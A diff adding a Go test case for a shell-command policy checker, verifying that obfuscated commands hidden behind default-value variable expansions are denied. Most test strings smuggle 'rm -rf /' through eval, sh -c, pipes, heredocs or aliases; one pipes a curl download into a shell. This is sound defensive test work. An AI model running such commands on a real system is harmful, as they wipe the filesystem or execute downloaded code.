@@ -434,6 +434,54 @@ func TestAssigningDefaults(t *testing.T) {
 	})
 }
 
+// A default taken for a variable the walk does not know (${CC:-gcc}) is
+// judged, and so is the variable's own value, which may be anything:
+// read Y < f; ${Y:-echo} -rf / ran rm -rf / with rm in f.
+func TestDefaultsOfUnknownVariables(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	dyn := "default:dynamic-command"
+	runCases(t, p, []checkCase{
+		{"read Y < f; ${Y:-echo} -rf /", Deny, dyn},
+		{"read Y < f; ${Y-echo} -rf /", Deny, dyn},
+		{`read Y < f; "${Y:-echo}" -rf /`, Deny, dyn},
+		{"read Y < f; ${Y:-ec}ho -rf /", Deny, dyn},
+		{"read Y < f; X=${Y:-echo}; $X -rf /", Deny, dyn},
+		{"read Y < f; : ${Y:=echo}; $Y -rf /", Deny, dyn},
+		{"read Y < f; command ${Y:-echo} -rf /", Deny, dyn},
+		{"read Y < f; a=(${Y:-echo}); ${a[0]} -rf /", Deny, dyn},
+		{"read Y < f; for c in ${Y:-echo}; do $c -rf /; done", Deny, dyn},
+		{"read Y < f; f() { $1 -rf /; }; f ${Y:-echo}", Deny, dyn},
+		{"read Y < f; X=${Y:-echo}; $(echo $X) -rf /", Deny, dyn},
+		{`read Y < f; curl https://x | ${Y:-cat}`, Deny, "default:download-exec"},
+		// The same in code a shell runs.
+		{`read Y < f; eval "${Y:-true} -rf /"`, Deny, dyn},
+		{`read Y < f; X="${Y:-echo} -rf /"; eval "$X"`, Deny, dyn},
+		{`read Y < f; sh -c "${Y:-true} -rf /"`, Deny, dyn},
+		{`read Y < f; alias x="${Y:-echo}"; x -rf /`, Deny, dyn},
+		{`read Y < f; alias ${Y:-x}=echo; x -rf /`, Deny, "parse"},
+		{`read Y < f; echo "${Y:-true} -rf /" | sh`, Deny, dyn},
+		{`read Y < f; printf '%s -rf /\n' "${Y:-true}" | bash`, Deny, dyn},
+		{`read Y < f; { echo "${Y:-true} -rf /"; echo ok; } | sh`, Deny, dyn},
+		{"read Y < f; sh <<EOF\n${Y:-true} -rf /\nEOF", Deny, dyn},
+		{`read Y < f; sh <<< "${Y:-true} -rf /"`, Deny, dyn},
+		{`read Y < f; echo "${Y:-true} -rf /" > x.sh; sh x.sh`, Deny, dyn},
+		{`read Y < f; echo "${Y:-true} -rf /" > x.sh; . ./x.sh`, Deny, dyn},
+		{"read Y < f; cat > x.sh <<EOF\n${Y:-true} -rf /\nEOF\nsh x.sh", Deny, dyn},
+		// The default is judged as before.
+		{"read Y < f; rm -rf ${Y:-/}", Deny, "default:rm-root"},
+		{"Y=rm; ${Y:-echo} -rf /", Deny, "default:rm-root"},
+		{"Y=; ${Y:-echo} -rf /", Allow, "default"},
+		// Ordinary defaults.
+		{"${CC:-gcc} -o x x.c", Allow, "default"},
+		{`${JAVA:="java"} -cp "$JAR" Main "$@"`, Allow, "default"},
+		{`date | ${AWK:=mawk} -f prog.awk`, Allow, "default"},
+		{`${SED-sed} -e 's|[^/]*$||' f`, Allow, "default"},
+		{`echo "${CC:-gcc} -o x x.c" | sh`, Allow, "default"},
+		{`for i in 1 2 3; do echo ${v:-none} >> build.log; done; sh build.log`, Allow, "default"},
+		{`alias k="${KUBECTL:-kubectl} --context x"; k get pods`, Allow, "default"},
+	})
+}
+
 // A name the dynamic-command rule only guesses to be nc or history needs
 // more than an option spelt -e or -c: $JAVA -cp lib Main is no netcat,
 // and $SHELL -c 'ls' does not clear the history.
